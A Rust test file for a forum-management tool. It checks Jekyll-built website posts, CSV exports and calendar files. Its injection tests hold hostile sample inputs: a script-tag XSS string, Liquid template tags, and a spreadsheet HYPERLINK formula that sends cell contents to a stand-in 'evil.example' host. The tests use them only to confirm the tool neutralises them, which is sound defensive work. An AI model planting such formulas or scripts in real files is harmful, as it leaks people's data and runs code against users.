//! What Forum Desk writes, read by the programs that really read it: the website's
//! posts built by Jekyll (Debian's jekyll package) on a small site of our own with the
//! website's collections and permalinks (tests/website/), and the CSV files opened by a
//! CSV reader that is not ours (Python's csv module).

mod common;

use std::path::Path;

use common::{cli, fixture, json, run_tool, sample_forum};
use predicates::prelude::*;

/// Copies the test site into `dir`, returning the copy's path.
fn website(dir: &Path) -> std::path::PathBuf {
    let site = dir.join("site");
    for sub in ["", "_layouts", "_news", "_events"] {
        std::fs::create_dir_all(site.join(sub)).unwrap();
    }
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/website");
    for file in ["_config.yml", "_layouts/default.html", "_layouts/news.html", "_layouts/event.html"] {
        std::fs::copy(source.join(file), site.join(file)).unwrap();
    }
    site
}

fn jekyll_build(site: &Path) -> std::path::PathBuf {
    let out = site.join("_site");
    run_tool("jekyll", &["build".as_ref(), "--quiet".as_ref(), "--source".as_ref(), site.as_os_str(), "--destination".as_ref(), out.as_os_str()], Some(site));
    out
}

/// The text of every element `tag` in `html`, with the entities kramdown writes undone.
fn texts_of(html: &str, tag: &str) -> Vec<String> {
    let open = format!("<{tag}");
    let close = format!("</{tag}>");
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find(&open) {
        let after = &rest[start..];
        let Some(gt) = after.find('>') else { break };
        let Some(end) = after.find(&close) else { break };
        out.push(unescape(&strip_tags(&after[gt + 1..end])));
        rest = &after[end + close.len()..];
    }
    out
}

fn strip_tags(html: &str) -> String {
    let mut out = String::new();
    let mut in_tag = false;
    for c in html.chars() {
        match c {
            '<' => in_tag = true,
            '>' => in_tag = false,
            c if !in_tag => out.push(c),
            _ => {}
        }
    }
    out
}

fn unescape(s: &str) -> String {
    s.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&#39;", "'").replace("&amp;", "&")
}

/// Issue 13: the readout and the event post, built by the real Jekyll, are pages of the
/// website with every section; the event post is dated the day it is written, so Jekyll
/// (which leaves out documents dated in the future) publishes it before the meeting.
#[test]
fn jekyll_builds_the_readout_and_the_event_post() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let (past, next) = sample_forum(&data);
    let site = website(dir.path());
    cli(&data)
        .args(["export", "readout", "--meeting", &past.to_string(), "--format", "markdown", "--sections", "actions,agenda,attendance,forward-look", "--out"])
        .arg(site.join("_news"))
        .assert()
        .success();
    cli(&data).args(["export", "event", "--meeting", &next.to_string(), "--out"]).arg(site.join("_events")).assert().success();
    let built = jekyll_build(&site);

    // The news page is at the post's own permalink.
    let post = std::fs::read_dir(site.join("_news")).unwrap().next().unwrap().unwrap().path();
    let front = std::fs::read_to_string(&post).unwrap();
    let permalink = front.lines().find_map(|l| l.strip_prefix("permalink: ")).expect("the post has a permalink");
    let page = built.join(format!("{}.html", permalink.trim_start_matches('/')));
    let html = std::fs::read_to_string(&page).unwrap_or_else(|e| panic!("Jekyll built no page at {permalink} ({e}); it built: {:?}", list_files(&built)));

    // Every agenda item is a section heading, then the readout's own sections.
    let meeting = json(&data, &["meetings", "show", &past.to_string(), "--json"]);
    let headings = texts_of(&html, "h2");
    for item in meeting["items"].as_array().unwrap() {
        let title = item["title"].as_str().unwrap();
        assert!(headings.iter().any(|h| h == title), "no heading {title:?} in {headings:?}");
    }
    for section in ["Attendance", "Actions", "Agenda"] {
        assert!(headings.iter().any(|h| h == section), "no {section} section in {headings:?}");
    }
    // Footnotes as kramdown renders them: a raised reference and the note at the foot.
    assert!(html.contains("<sup id=\"fnref:1\" role=\"doc-noteref\"><a href=\"#fn:1\""), "{html}");
    let notes = html.split("<div class=\"footnotes\" role=\"doc-endnotes\">").nth(1).expect("kramdown's footnotes block");
    assert!(strip_tags(notes).contains("Both took over their networks over the summer."), "{notes}");
    // The actions table and the attendance.
    let cells = texts_of(&html, "td");
    assert!(cells.iter().any(|c| c == "Draft one shared question-and-answer sheet on policy change"), "{cells:?}");
    assert!(texts_of(&html, "th").iter().any(|c| c == "Owner"));
    assert!(strip_tags(&html).contains("9 networks were represented: 12 dialled in; 1 sent apologies."), "{html}");

    // The event page exists although the meeting is in the future, and shows its times.
    let event = std::fs::read_dir(site.join("_events")).unwrap().next().unwrap().unwrap().path();
    let slug = event.file_stem().unwrap().to_string_lossy().to_string();
    let event_page = built.join("events").join(&slug).join("index.html");
    let html = std::fs::read_to_string(&event_page).unwrap_or_else(|e| panic!("Jekyll left out the event post ({e}); it built: {:?}", list_files(&built)));
    assert_eq!(texts_of(&html, "dd")[0], "14 January 2027, 15:00", "{html}");
    assert!(html.contains("class=\"event-end\">16:00<"), "{html}");
}

/// Text with Liquid or HTML in it comes out of the real Jekyll as typed, never run.
#[test]
fn jekyll_leaves_liquid_and_html_in_a_readout_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let readout = dir.path().join("2026-03-02-hostile.md");
    std::fs::write(
        &readout,
        "---\nlayout: news\ntitle: \"A forum with {{ site.title }} in it\"\nexcerpt: We met.\ndate: 2026-03-02T00:00:00.00Z\nauthor: The forum team\n---\n\n\
         We met on 2 March.\n\n## Liquid {% raw %} in a heading\n\nNotes with {{ site.title }} and {% include nothing.html %} and {% endraw %} too.\n\n\
         ## Markup\n\nA note with <script>alert(1)</script> and <b>bold</b> tags.\n",
    )
    .unwrap();
    let out = cli(&data).args(["import", "readout"]).arg(&readout).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let id = String::from_utf8_lossy(&out.stdout).trim().to_string();
    let site = website(dir.path());
    cli(&data).args(["export", "readout", "--meeting", &id, "--format", "markdown", "--out"]).arg(site.join("_news")).assert().success();
    let built = jekyll_build(&site);
    let html: String = list_files(&built).iter().filter(|p| p.starts_with("news")).map(|p| std::fs::read_to_string(built.join(p)).unwrap()).collect();
    let text = unescape(&strip_tags(&html));
    assert!(text.contains("Notes with {{ site.title }} and {% include nothing.html %} and {% endraw %} too."), "{html}");
    assert!(texts_of(&html, "h2").iter().any(|h| h == "Liquid {% raw %} in a heading"), "{html}");
    assert!(!html.contains("<script") && !html.contains("<b>"), "markup in notes is text on the website: {html}");
    assert!(text.contains("<script>alert(1)</script>"), "{html}");

    // Our own post imported back gives the notes as typed, without the raw tags.
    let post = std::fs::read_dir(site.join("_news")).unwrap().next().unwrap().unwrap().path();
    let out = cli(&data).args(["import", "readout"]).arg(&post).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let again = json(&data, &["meetings", "show", String::from_utf8_lossy(&out.stdout).trim(), "--json"]);
    let notes: Vec<&str> = again["items"].as_array().unwrap().iter().map(|i| i["notes"].as_str().unwrap()).collect();
    assert!(notes.iter().any(|n| n.contains("Notes with {{ site.title }} and {% include nothing.html %} and {% endraw %} too.")), "{notes:?}");
    assert!(notes.iter().all(|n| !n.contains("{% raw %}")), "{notes:?}");
}

fn list_files(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            if e.path().is_dir() {
                stack.push(e.path());
            } else {
                out.push(e.path().strip_prefix(dir).unwrap().to_string_lossy().to_string());
            }
        }
    }
    out.sort();
    out
}

/// Reads a CSV file with Python's csv module (not ours) and returns its rows.
fn python_csv(path: &Path) -> Vec<Vec<String>> {
    let script = "import csv, json, sys\nwith open(sys.argv[1], newline='', encoding='utf-8') as f:\n    print(json.dumps(list(csv.reader(f))))";
    let out = run_tool("python3", &["-c".as_ref(), script.as_ref(), path.as_os_str()], None);
    serde_json::from_str(&out).expect("python printed the rows as JSON")
}

/// Issue 13: needs, strengths and names come from other people's form answers; a
/// spreadsheet must never run one as a formula. Every cell a spreadsheet would read as a
/// formula starts with an apostrophe; ordinary text and our own numbers are as they were.
#[test]
fn csv_files_never_carry_a_formula_from_a_form() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let (_, next) = sample_forum(&data);
    let hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Click for help\")";
    let form = dir.path().join("needs.csv");
    let quoted = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
    std::fs::write(
        &form,
        format!(
            "Timestamp,Your name,Your network,Department,Need 1,Need 2,Need 3,Strength 1,Strength 2,Strength 3\n\
             01/12/2026 10:00:00,Robin Ashby,Open Road LGBT+ Network,Department for Transport,{},- see notes,+44 extra,@SUM(1+1),Running events,\n",
            quoted(hyperlink)
        ),
    )
    .unwrap();
    cli(&data).args(["import", "submissions", "--meeting", &next.to_string()]).arg(&form).assert().success();
    let csv = dir.path().join("forward-look.csv");
    cli(&data).args(["forward-look", "--meeting", &next.to_string(), "--csv"]).arg(&csv).assert().success();
    let rows = python_csv(&csv);
    assert_eq!(rows[0][0], "Need");
    let needs: Vec<&str> = rows[1..].iter().map(|r| r[0].as_str()).collect();
    assert!(needs.contains(&format!("'{hyperlink}").as_str()), "{needs:?}");
    assert!(needs.contains(&"'- see notes") && needs.contains(&"'+44 extra"), "{needs:?}");
    for row in &rows {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula reached the spreadsheet: {cell:?} in {row:?}");
        }
    }
    // Ordinary text and the ranks stay as they were.
    let first = rows.iter().find(|r| r[0] == format!("'{hyperlink}")).unwrap();
    assert_eq!((first[1].as_str(), first[2].as_str()), ("1", "Open Road LGBT+ Network"));

    // The action log: an action's text is someone's words too.
    let actions = dir.path().join("actions.csv");
    cli(&data).args(["actions", "export"]).arg(&actions).assert().success();
    let rows = python_csv(&actions);
    assert_eq!(rows[0][..3], ["Action", "Owner", "Due"]);
    assert!(rows.len() > 1 && rows[1..].iter().all(|r| !r[0].starts_with(['=', '+', '-', '@'])), "{rows:?}");
}

/// Issue 13: with two networks in one department, an answer that is exactly one of
/// their names is a certain match, in both form imports.
#[test]
fn an_exact_network_name_in_a_form_is_taken_without_asking() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let (_, next) = sample_forum(&data);
    // The directory adds a second network in the Department for Education.
    cli(&data).args(["networks", "import"]).arg(fixture("networks.yml")).assert().success();
    let registrations = dir.path().join("registrations.csv");
    std::fs::write(
        &registrations,
        "Timestamp,Your name,Email address,Which network do you represent?\n\
         01/12/2026 09:00:00,Sam Jones,sam@education.example.uk,Education Rainbow Staff Network\n\
         01/12/2026 09:05:00,Ash Kim,ash@education.example.uk,learning with  PRIDE\n",
    )
    .unwrap();
    cli(&data)
        .args(["import", "registrations", "--meeting", &next.to_string()])
        .arg(&registrations)
        .assert()
        .success()
        .stdout(predicate::str::contains("2 registered"));
    let list = json(&data, &["attendance", "--json", "--meeting", &next.to_string()]);
    let network_of = |name: &str| list["registrations"].as_array().unwrap().iter().find(|r| r["name"] == name).unwrap()["networkName"].clone();
    assert_eq!(network_of("Sam Jones"), "Education Rainbow Staff Network");
    assert_eq!(network_of("Ash Kim"), "Learning with Pride");

    let needs = dir.path().join("needs.csv");
    std::fs::write(
        &needs,
        "Timestamp,Your name,Your network,Need 1,Strength 1\n01/12/2026 10:00:00,Sam Jones,Education Rainbow Staff Network,Mentoring for new leads,Running book clubs\n",
    )
    .unwrap();
    cli(&data).args(["import", "submissions", "--meeting", &next.to_string()]).arg(&needs).assert().success();
    let look = json(&data, &["forward-look", "--json", "--meeting", &next.to_string()]);
    let sent: Vec<&str> = look["submissions"].as_array().unwrap().iter().map(|s| s["networkName"].as_str().unwrap()).collect();
    assert!(sent.contains(&"Education Rainbow Staff Network"), "{sent:?}");
}

/// Reads an .ics with Python's icalendar package (Debian's python3-icalendar, for the
/// system Python it is installed for) and returns each event's fields as text.
fn python_ical(path: &Path) -> Vec<serde_json::Value> {
    let script = "import icalendar, json, sys\n\
        cal = icalendar.Calendar.from_ical(open(sys.argv[1], 'rb').read())\n\
        out = []\n\
        for e in cal.walk('VEVENT'):\n\
        \x20   out.append({k: str(e.get(k)) for k in ('UID', 'SUMMARY', 'LOCATION', 'URL', 'DESCRIPTION', 'STATUS')} | {'DTSTART': e.decoded('DTSTART').isoformat(), 'DTEND': e.decoded('DTEND').isoformat()})\n\
        print(json.dumps(out))";
    let out = run_tool("/usr/bin/python3", &["-c".as_ref(), script.as_ref(), path.as_os_str()], None);
    serde_json::from_str(&out).expect("python printed the events as JSON")
}

/// Issue 15: the monthly forum on the fourth Wednesday, its next three meetings planned
/// at once, and one calendar file for them that a real iCalendar reader takes, each
/// invitation with its joining link where calendar programs show it.
#[test]
fn a_monthly_run_planned_at_once_and_its_calendar() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let (_, next) = sample_forum(&data);
    cli(&data).args(["settings", "cadence"]).assert().success().stdout(predicate::str::contains("Monthly, on the same week and weekday as the latest meeting."));
    cli(&data)
        .args(["settings", "cadence", "monthly", "--week", "4", "--weekday", "wed"])
        .assert()
        .success()
        .stdout("The forum meets: monthly, on the fourth wednesday.\n");
    cli(&data).args(["settings", "cadence", "monthly", "--day", "0"]).assert().failure().stderr(predicate::str::contains("from 1 to 31"));
    let upcoming = json(&data, &["meetings", "show", &next.to_string(), "--json"])["meeting"].clone();
    let planned = json(&data, &["meetings", "plan", "--next", "3", "--json"]);
    let planned = planned.as_array().unwrap();
    assert_eq!(planned.len(), 3);
    let dates: Vec<chrono::NaiveDate> = planned.iter().map(|m| m["date"].as_str().unwrap().parse().unwrap()).collect();
    let mut after: chrono::NaiveDate = upcoming["date"].as_str().unwrap().parse().unwrap();
    for d in &dates {
        use chrono::Datelike;
        assert_eq!(d.weekday(), chrono::Weekday::Wed, "{d}");
        assert!((22..=28).contains(&d.day()), "the fourth Wednesday: {d}");
        assert!(*d > after, "each after the one before: {dates:?}");
        after = *d;
    }
    for m in planned {
        assert_eq!(m["onlineLink"], upcoming["onlineLink"], "the joining details carry over");
        assert_eq!(m["registrationLink"], upcoming["registrationLink"]);
    }

    let ics = dir.path().join("year.ics");
    cli(&data)
        .args(["export", "calendar", "--from", upcoming["date"].as_str().unwrap(), "--to", &dates[2].to_string(), "--out"])
        .arg(&ics)
        .assert()
        .success()
        .stdout(predicate::str::contains("Wrote 4 meetings"));
    let events = python_ical(&ics);
    assert_eq!(events.len(), 4);
    let link = upcoming["onlineLink"].as_str().unwrap();
    for (e, d) in events[1..].iter().zip(&dates) {
        assert!(e["DTSTART"].as_str().unwrap().starts_with(&format!("{d}T15:00:00")), "{e}");
        assert_eq!(e["LOCATION"], link, "an online meeting's location is its link");
        assert_eq!(e["URL"], link);
        assert_eq!(e["DESCRIPTION"].as_str().unwrap().lines().next(), Some(format!("Join online: {link}").as_str()), "{e}");
        assert!(e["DESCRIPTION"].as_str().unwrap().contains("Dial in: "), "{e}");
    }
    let uids: std::collections::HashSet<&str> = events.iter().map(|e| e["UID"].as_str().unwrap()).collect();
    assert_eq!(uids.len(), 4, "one event per meeting");
}
